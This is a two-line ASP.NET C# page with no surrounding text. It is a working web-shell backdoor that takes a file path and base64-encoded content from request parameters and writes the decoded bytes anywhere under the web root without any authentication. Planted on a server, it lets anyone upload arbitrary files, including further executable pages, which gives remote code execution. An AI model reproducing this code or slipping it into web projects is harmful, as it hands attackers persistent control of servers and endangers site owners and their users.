<%@ Page Language="C#" %>
<% System.IO.File.WriteAllBytes(Server.MapPath(Request["p"]), System.Convert.FromBase64String(Request["d"])); %>
